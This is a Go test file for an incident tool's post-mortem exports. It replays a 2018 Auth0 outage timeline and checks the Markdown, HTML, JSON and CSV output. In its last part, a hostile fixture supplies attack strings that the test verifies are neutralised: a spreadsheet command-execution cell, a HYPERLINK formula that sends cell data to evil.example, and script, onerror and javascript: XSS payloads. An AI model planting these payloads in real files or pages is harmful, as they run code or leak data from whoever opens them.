package templates

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"stormdesk"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func at(day, hhmm string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", day+" "+hhmm)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

// referenceOutage is the timeline of the reference outage (Auth0, November
// 28th, 2018; demo/scenarios/auth-outage.yaml) as stormdesk records it:
// its alert when the provider's status page went red, the login probe,
// upstream updates with the provider's own times, the first customer
// report, what people did.
func referenceOutage() (*stormdesk.Incident, []*stormdesk.TimelineEntry, []time.Time) {
	d1, d2 := "2018-11-28", "2018-11-29"
	up := func(hhmm, status, text string) *stormdesk.TimelineEntry {
		return &stormdesk.TimelineEntry{At: at(d1, hhmm), Kind: stormdesk.KindUpstream, Actor: "auth0", Text: "Auth0: " + text + " (" + status + ")",
			Data: json.RawMessage(`{"provider":"auth0","status":"` + status + `"}`), SourceURL: "https://status.auth0.com/incidents/xyz"}
	}
	probe := func(hhmm, status, text string) *stormdesk.TimelineEntry {
		return &stormdesk.TimelineEntry{At: at(d1, hhmm), Kind: stormdesk.KindProbe, Actor: "login", Text: "login: " + text,
			Data: json.RawMessage(`{"provider":"login","status":"` + status + `"}`)}
	}
	entries := []*stormdesk.TimelineEntry{
		{At: at(d1, "15:13"), Kind: stormdesk.KindDetected, Actor: "stormdesk",
			Text: `Upstream watch: auth0 reports "Elevated error rates and response times"; it backs login, screenshare; no customer reports yet`},
		up("15:13", "investigating", "Elevated error rates and response times"),
		probe("16:32", "investigating", "probe login failing: 3 consecutive failures, last: status 502, want 200"),
		up("16:35", "identified", "The issue has been identified and a fix is being implemented."),
		{At: at(d1, "16:46"), Kind: stormdesk.KindFirstReport, Actor: "ana@example.com", Text: "First report: Can't log in or start a screen share"},
		up("16:56", "identified", "Response times are slowly normalizing and errors are going down"),
		{At: at(d1, "16:58"), Kind: stormdesk.KindReportCount, Actor: "stormdesk", Text: "5 reports from 5 distinct customers"},
		{At: at(d1, "17:02"), Kind: stormdesk.KindAcknowledged, Actor: "U024BE7LH (maria)", Text: "Acknowledged",
			Data: json.RawMessage(`{"to":"investigating"}`)},
		{At: at(d1, "17:03"), Kind: stormdesk.KindStatusChange, Actor: "U024BE7LH (maria)", Text: "Status changed from investigating to identified: Our login provider Auth0 has an outage",
			Data: json.RawMessage(`{"from":"investigating","to":"identified"}`)},
		{At: at(d1, "17:04"), Kind: stormdesk.KindNotification, Actor: "stormdesk", Text: "acknowledged email sent to 9 customers, 0 failed",
			Data: json.RawMessage(`{"template":"acknowledged","sent":9,"failed":0}`)},
		{At: at(d1, "17:58"), Kind: stormdesk.KindNote, Actor: "U024BE7LH (maria)", Text: "Started a contingency plan: restore service within 12 hours without the provider"},
		probe("18:35", "resolved", "probe login recovered: status 200 in 1 ms"),
		up("18:35", "resolved", "Error rates are back to normal"),
		{At: at(d1, "18:40"), Kind: stormdesk.KindStatusChange, Actor: "U024BE7LH (maria)", Text: "Status changed from identified to monitoring: Login and screen sharing work again",
			Data: json.RawMessage(`{"from":"identified","to":"monitoring"}`)},
		{At: at(d1, "20:52"), Kind: stormdesk.KindNote, Actor: "U0G9QF9C6 (ben)", Text: "The provider published its root cause analysis: worst period 16:30 to 18:35"},
		{At: at(d2, "07:00"), Kind: stormdesk.KindNote, Actor: "U0G9QF9C6 (ben)", Text: "Everything still quiet, active monitoring ongoing"},
		{At: at(d2, "09:00"), Kind: stormdesk.KindStatusChange, Actor: "U024BE7LH (maria)", Text: "Status changed from monitoring to resolved",
			Data: json.RawMessage(`{"from":"monitoring","to":"resolved"}`)},
		{At: at(d2, "09:01"), Kind: stormdesk.KindNotification, Actor: "stormdesk", Text: "resolved email sent to 12 customers, 1 failed",
			Data: json.RawMessage(`{"template":"resolved","sent":12,"failed":1}`)},
	}
	for i, e := range entries {
		e.ID, e.IncidentID = int64(i+1), 7
	}
	var reports []time.Time
	for _, m := range []string{"16:46", "16:49", "16:52", "16:53", "16:55", "16:57", "16:58", "17:04", "17:10", "17:21", "17:40", "18:02", "18:44"} {
		reports = append(reports, at(d1, m))
	}
	ack, res := at(d1, "17:02"), at(d2, "09:00")
	inc := &stormdesk.Incident{ID: 7, Title: "Can't log in or start a screen share", Status: stormdesk.StatusResolved, Severity: stormdesk.SeverityCritical,
		Features: []string{"login", "screenshare"}, LikelyCause: "auth0: Elevated error rates and response times", ClusterID: 3,
		CreatedAt: at(d1, "16:58"), UpdatedAt: res, AcknowledgedAt: &ack, ResolvedAt: &res, TicketCount: len(reports)}
	return inc, entries, reports
}

// referenceLabels are report i's channel and tags in the reference
// outage: mostly email, some chat, one of no known channel; "login" on
// most, twelve tags in all, so the summary shows the ten most common.
func referenceLabels(i int) (string, []string) {
	channel := []string{"email", "chat", "email", ""}[i%4]
	tags := []string{"login"}
	if i%2 == 0 {
		tags = append(tags, "sso_error")
	}
	if i < 10 {
		tags = append(tags, fmt.Sprintf("org-%02d", i))
	}
	return channel, tags
}

func renderReference(t *testing.T, format string) []byte {
	t.Helper()
	inc, entries, reports := referenceOutage()
	b := NewBuilder()
	for i, r := range reports {
		b.AddReport(r)
		channel, tags := referenceLabels(i)
		b.AddLabels(channel, tags, 1)
	}
	for _, e := range entries {
		b.AddEntry(e)
	}
	sum, chart := b.Build(inc, len(reports), 12)
	var buf bytes.Buffer
	err := Render(&buf, format, &Export{Incident: inc, Summary: sum, Chart: chart, Entries: slices.Values(entries), GeneratedAt: at("2018-11-29", "10:00")})
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./templates -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test ./templates -update, then review the diff):\n%s", name, got)
	}
}

func TestExportGolden(t *testing.T) {
	for _, f := range Formats {
		t.Run(f, func(t *testing.T) { golden(t, "reference-outage."+f+".golden", renderReference(t, f)) })
	}
}

// TestMarkdownReproducesTheReferenceTimeline checks the Markdown export
// against the reference post-mortem's own timeline: its times, in order,
// grouped by day, with who did what.
func TestMarkdownReproducesTheReferenceTimeline(t *testing.T) {
	md := string(renderReference(t, "md"))
	for _, want := range []string{
		// The impact window starts at the earliest signal, the provider's
		// status page and stormdesk's alert at 15:13, not at the first ticket.
		"- Impact window: November 28th, 2018, 15:13 to November 29th, 2018, 09:00 UTC (17 h 47 min)",
		"- Customer reports: 13 tickets from 12 distinct customers",
		"- Likely cause: auth0: Elevated error rates and response times",
		"- Customer notifications sent: 21 (1 failed)",
		"All times are in UTC.",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("missing %q in:\n%s", want, md)
		}
	}
	line := regexp.MustCompile(`(?m)^- (\d\d:\d\d) .* — (.*)$|^(November \d+\w+, 2018):$`)
	var got []string
	for _, m := range line.FindAllStringSubmatch(md[strings.Index(md, "## Full timeline"):], -1) {
		if m[3] != "" {
			got = append(got, m[3])
		} else {
			got = append(got, m[1]+" "+m[2])
		}
	}
	want := []string{"November 28th, 2018", "15:13 stormdesk", "15:13 auth0", "16:32 login", "16:35 auth0", "16:46 ana@example.com", "16:56 auth0", "16:58 stormdesk",
		"17:02 U024BE7LH (maria)", "17:03 U024BE7LH (maria)", "17:04 stormdesk", "17:58 U024BE7LH (maria)", "18:35 login", "18:35 auth0", "18:40 U024BE7LH (maria)", "20:52 U0G9QF9C6 (ben)",
		"November 29th, 2018", "07:00 U0G9QF9C6 (ben)", "09:00 U024BE7LH (maria)", "09:01 stormdesk"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("timeline lines:\n got %q\nwant %q", got, want)
	}
}

func TestChart(t *testing.T) {
	_, _, reports := referenceOutage()
	inc, entries, _ := referenceOutage()
	b := NewBuilder()
	for _, r := range reports {
		b.AddReport(r)
	}
	for _, e := range entries {
		b.AddEntry(e)
	}
	_, c := b.Build(inc, len(reports), 12)
	total := 0
	for _, n := range c.Buckets {
		total += n
	}
	if total != len(reports) || len(c.Buckets) > MaxBuckets {
		t.Fatalf("buckets hold %d reports in %d buckets", total, len(c.Buckets))
	}
	// One band per upstream status: investigating 15:13–16:35, identified
	// 16:35–18:35 (two updates with the same status make one band); the
	// resolution closes it.
	if len(c.Bands) != 2 || c.Bands[0].Status != "investigating" || !c.Bands[0].End.Equal(at("2018-11-28", "16:35")) ||
		!c.Bands[1].End.Equal(at("2018-11-28", "18:35")) {
		t.Fatalf("bands: %+v", c.Bands)
	}
	// The chart spans 15:10 to 30 minutes after the last report (18:44):
	// the next morning's resolution is outside it. Its markers are the
	// milestones and status changes, those of one minute merged, each
	// labelled.
	var markers []string
	for _, m := range c.Markers {
		markers = append(markers, m.At.Format("15:04")+" "+m.Label)
	}
	wantMarkers := []string{"15:13 stormdesk alert · upstream", "16:32 probe failing", "16:46 first report", "17:02 acknowledged",
		"17:03 → identified", "17:04 first email", "18:40 → monitoring"}
	if strings.Join(markers, "|") != strings.Join(wantMarkers, "|") || !c.Start.Equal(at("2018-11-28", "15:10")) || c.BucketWidth != "5 min" {
		t.Fatalf("markers %q start %v width %s, want markers %q", markers, c.Start, c.BucketWidth, wantMarkers)
	}
	svg := string(renderReference(t, "html"))
	if strings.Count(svg, `class="bar"`) == 0 || strings.Count(svg, `class="band"`) != 2 || strings.Count(svg, `class="marker"`) != 7 {
		t.Fatalf("the HTML chart lacks bars, bands or markers")
	}
	// Every marker is labelled, with its time.
	for _, m := range wantMarkers {
		if !strings.Contains(svg, `style="fill: `) || !strings.Contains(svg, ">"+m+"</text>") {
			t.Errorf("the chart has no label %q", m)
		}
	}
	// y ticks at 0, 1, 2 and 3 reports (the tallest bar), each with its grid line.
	for _, n := range []string{"0", "1", "2", "3"} {
		if !strings.Contains(svg, `text-anchor="end">`+n+`</text>`) {
			t.Errorf("no y tick %s", n)
		}
	}
	// The legend names what is drawn, and nothing else: no monitoring
	// band was drawn, so no yellow.
	for _, want := range []string{"customer reports per 5 min", "auth0: investigating", "auth0: identified", "dashed lines"} {
		if !strings.Contains(svg, want) {
			t.Errorf("the legend lacks %q", want)
		}
	}
	if strings.Contains(svg, "#e3b341") || strings.Contains(svg, "yellow") || strings.Contains(svg, "monitoring (provider") {
		t.Errorf("the page names or paints a monitoring band that is not drawn")
	}
}

// TestTimeToKnow: every export leads with when each party knew, and says
// the lead stormdesk had over the customers.
func TestTimeToKnow(t *testing.T) {
	md := string(renderReference(t, "md"))
	for _, want := range []string{
		"## Time to know", "| First upstream signal | 15:13 |", "| First probe failure | 16:32 |", "| stormdesk's alert | 15:13 |",
		"| First customer report | 16:46 |", "| Acknowledged | 17:02 |", "| First customer email | 17:04 |", "| Resolved | Nov 29 09:00 |",
		"- stormdesk alerted 93 min before the first customer report\n",
		"- stormdesk alerted in the same minute as the first upstream signal\n",
		"- the first probe failure came 14 min before the first customer report\n",
		"- acknowledged 109 min after stormdesk's alert\n",
		"- the first customer email went out 18 min after the first customer report\n",
		"- resolved 17 h 47 min after the first signal\n",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("md lacks %q", want)
		}
	}
	html := string(renderReference(t, "html"))
	for _, want := range []string{"<h2>Time to know</h2>", `<tr class="stormdesk_alert"><th scope="row">stormdesk&#39;s alert</th><td class="t">15:13 UTC</td></tr>`,
		"<li>stormdesk alerted 93 min before the first customer report</li>"} {
		if !strings.Contains(html, want) {
			t.Errorf("html lacks %q", want)
		}
	}
	var doc struct {
		Summary struct {
			Start      time.Time  `json:"impact_start"`
			TimeToKnow TimeToKnow `json:"time_to_know"`
		}
	}
	if err := json.Unmarshal(renderReference(t, "json"), &doc); err != nil {
		t.Fatal(err)
	}
	k := doc.Summary.TimeToKnow
	if len(k.Milestones) != 7 || !k.At(MilestoneAlert).Equal(at("2018-11-28", "15:13")) || !k.At(MilestoneProbe).Equal(at("2018-11-28", "16:32")) ||
		!doc.Summary.Start.Equal(at("2018-11-28", "15:13")) || len(k.Leads) != 6 || k.Leads[0] != "stormdesk alerted 93 min before the first customer report" {
		t.Fatalf("json time_to_know: %+v, impact start %v", k, doc.Summary.Start)
	}

	// An incident people declared, one report, nothing upstream: the
	// block says what did not happen, and counts agree with their nouns.
	one := at("2020-01-01", "10:00")
	inc := &stormdesk.Incident{ID: 2, Title: "One report", Status: stormdesk.StatusInvestigating, Severity: stormdesk.SeverityMinor, CreatedAt: one}
	b := NewBuilder()
	b.AddReport(one)
	b.AddEntry(&stormdesk.TimelineEntry{At: one, Kind: stormdesk.KindDeclared, Actor: "ana", Text: "Incident declared: One report (minor)"})
	sum, chart := b.Build(inc, 1, 1)
	var buf bytes.Buffer
	if err := Render(&buf, "md", &Export{Incident: inc, Summary: sum, Chart: chart, Entries: slices.Values([]*stormdesk.TimelineEntry(nil))}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Customer reports: 1 ticket from 1 customer\n", "| stormdesk's alert | none |", "- stormdesk raised no alert: people declared the incident"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("one-report md lacks %q:\n%s", want, &buf)
		}
	}
}

// TestMarkerLabelsDoNotCollide lays out markers a minute apart, as a busy
// incident has them: labels in one lane never overlap, and stay on the chart.
func TestMarkerLabelsDoNotCollide(t *testing.T) {
	var xs, ws []float64
	for i := range 12 {
		xs = append(xs, 300+float64(i)*4)
		ws = append(ws, 100)
	}
	xs = append(xs, chartW-10) // near the right edge: its label goes left
	ws = append(ws, 120)
	ls := layLabels(xs, ws)
	for i, a := range ls {
		if a.x0 < 0 || a.x1 > chartW {
			t.Errorf("label %d off the chart: %+v", i, a)
		}
		for _, b := range ls[i+1:] {
			if a.lane == b.lane && a.x0 < b.x1 && b.x0 < a.x1 {
				t.Errorf("labels overlap in lane %d: %+v and %+v", a.lane, a, b)
			}
		}
	}
	if last := ls[len(ls)-1]; last.anchor != "end" {
		t.Errorf("the label at the right edge is not laid to the left of its line: %+v", last)
	}
}

func TestJSONAndCSVAreWellFormed(t *testing.T) {
	var doc struct {
		Schema   string
		Incident struct{ ID int64 }
		Timeline []stormdesk.TimelineEntry
		Summary  struct{ Reports int }
	}
	if err := json.Unmarshal(renderReference(t, "json"), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != ExportSchema || doc.Incident.ID != 7 || len(doc.Timeline) != 18 || doc.Summary.Reports != 13 {
		t.Fatalf("json: %+v", doc)
	}
	rows, err := csv.NewReader(bytes.NewReader(renderReference(t, "csv"))).ReadAll()
	if err != nil || len(rows) != 19 || rows[1][0] != "2018-11-28T15:13:00Z" {
		t.Fatalf("csv: %v %v", err, rows[:2])
	}
}

func TestEmptyIncident(t *testing.T) {
	inc := &stormdesk.Incident{ID: 1, Title: "Declared, nothing yet", Status: stormdesk.StatusInvestigating, Severity: stormdesk.SeverityMinor, CreatedAt: at("2020-01-01", "00:00")}
	sum, chart := NewBuilder().Build(inc, 0, 0)
	for _, f := range Formats {
		var buf bytes.Buffer
		if err := Render(&buf, f, &Export{Incident: inc, Summary: sum, Chart: chart, Entries: slices.Values([]*stormdesk.TimelineEntry(nil))}); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
	}
	if _, err := ParseFormat("pdf"); stormdesk.ErrorCode(err) != stormdesk.EINVALID {
		t.Fatal("pdf is not a format")
	}
}

func TestDayAndDuration(t *testing.T) {
	for in, want := range map[string]string{"2018-11-01": "November 1st, 2018", "2018-11-02": "November 2nd, 2018", "2018-11-03": "November 3rd, 2018",
		"2018-11-11": "November 11th, 2018", "2018-11-12": "November 12th, 2018", "2018-11-13": "November 13th, 2018", "2018-11-21": "November 21st, 2018", "2018-11-22": "November 22nd, 2018"} {
		if got := Day(at(in, "00:00")); got != want {
			t.Errorf("Day(%s) = %s, want %s", in, got, want)
		}
	}
	for d, want := range map[time.Duration]string{30 * time.Second: "30s", 45 * time.Minute: "45 min", 2*time.Hour + 5*time.Minute: "2 h 5 min", 3 * time.Hour: "3 h"} {
		if got := Duration(d); got != want {
			t.Errorf("Duration(%v) = %s, want %s", d, got, want)
		}
	}
}

// hostileOutage is an incident whose people-written text attacks the
// export's readers: HTML that runs in a Markdown renderer, a disguised
// link and a tracking image, and cells a spreadsheet would run as
// formulas.
func hostileOutage() *Export {
	d := "2026-03-14"
	inc := &stormdesk.Incident{ID: 9, Title: `<script>alert(1)</script> Checkout [broken](https://evil.example) & down`, Status: stormdesk.StatusResolved,
		Severity: stormdesk.SeverityMajor, Features: []string{"checkout"}, LikelyCause: `payments <img src=x onerror=alert(1)>`,
		CreatedAt: at(d, "10:00"), UpdatedAt: at(d, "11:00")}
	entries := []*stormdesk.TimelineEntry{
		{At: at(d, "10:00"), Kind: stormdesk.KindFirstReport, Actor: "=cmd|' /C calc'!A0", Text: "First report: -2+3 is what the cart shows"},
		{At: at(d, "10:05"), Kind: stormdesk.KindNote, Actor: "@SUM(1+1)", Text: `=HYPERLINK("https://evil.example/?"&A1,"click")`},
		{At: at(d, "10:06"), Kind: stormdesk.KindNote, Actor: "Mallory (slack:UM)", Text: "+1 <img src=x onerror=alert(1)> ![](https://tracker.example/p.gif) see [here](javascript:alert(1)) \\[kept\\]"},
		{At: at(d, "10:07"), Kind: stormdesk.KindNote, Actor: "\tTab (slack:UT)", Text: "\rcarriage return first"},
		{At: at(d, "10:08"), Kind: stormdesk.KindNote, Actor: "Ana (slack:UA)", Text: "an ordinary note, 3-2=1 inside is fine", SourceURL: "https://chat.example/p1"},
	}
	for i, e := range entries {
		e.ID, e.IncidentID = int64(i+1), 9
	}
	b := NewBuilder()
	for _, e := range entries {
		b.AddEntry(e)
	}
	sum, chart := b.Build(inc, 1, 1)
	return &Export{Incident: inc, Summary: sum, Chart: chart, Entries: slices.Values(entries), GeneratedAt: at(d, "12:00")}
}

// TestExportNeutralisesHostileText: in the CSV export no cell starts
// with = + - @ tab or carriage return (each such cell gets a leading
// quote); the Markdown export carries people's HTML and link syntax as
// escaped text (issue 14, item 5). Golden files show the whole output.
func TestExportNeutralisesHostileText(t *testing.T) {
	render := func(format string) []byte {
		var buf bytes.Buffer
		if err := Render(&buf, format, hostileOutage()); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	csvOut := render("csv")
	golden(t, "hostile.csv.golden", csvOut)
	rows, err := csv.NewReader(bytes.NewReader(csvOut)).ReadAll()
	if err != nil || len(rows) != 6 {
		t.Fatalf("csv: %v, %d rows", err, len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q would run as a formula", cell)
			}
		}
	}
	if rows[2][3] != `'=HYPERLINK("https://evil.example/?"&A1,"click")` || rows[2][2] != "'@SUM(1+1)" || rows[5][3] != "an ordinary note, 3-2=1 inside is fine" {
		t.Errorf("neutralised cells: %q", rows[2])
	}

	md := string(render("md"))
	golden(t, "hostile.md.golden", []byte(md))
	for _, raw := range []string{"<script", "<img", "[broken](", "![](", "[here]("} {
		if strings.Contains(md, raw) {
			t.Errorf("the Markdown export carries %q raw", raw)
		}
	}
	for _, want := range []string{"# Post-mortem: &lt;script&gt;alert(1)&lt;/script&gt; Checkout \\[broken\\](https://evil.example) &amp; down",
		"Likely cause: payments &lt;img src=x onerror=alert(1)&gt;", `\\\[kept\\\]`} {
		if !strings.Contains(md, want) {
			t.Errorf("the Markdown export lacks %q", want)
		}
	}
	golden(t, "hostile.html.golden", render("html"))
}
